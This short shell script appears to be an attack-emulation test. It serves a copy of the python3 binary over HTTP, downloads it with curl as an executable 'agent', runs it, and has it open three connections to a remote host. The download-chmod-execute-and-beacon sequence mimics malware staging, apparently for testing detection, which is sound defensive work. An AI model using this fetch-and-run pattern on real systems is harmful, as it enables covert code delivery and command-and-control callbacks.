#!/bin/sh
# A copy of Python comes over HTTP, runs, and connects three times.
# Needs: curl python3
# Environment: see ../emulation.sh.
. "$(dirname "$0")/../emulation.sh"

need curl python3
inside sh -c 'cat "$(readlink -f "$(command -v python3)")"' </dev/null >"$stage/tool"
serve sh -c 'while read -r line && [ "${#line}" -gt 1 ]; do :; done; printf "HTTP/1.0 200 OK\r\n\r\n"; cat "$0"' "$stage/tool"
inside sh -c "curl -sSo $there/agent http://$remote:$port/agent && chmod 700 $there/agent" </dev/null
serve_tcp
inside "$there/agent" -c "
import socket
for _ in range(3):
    socket.create_connection(('$remote', $port)).close()
" </dev/null
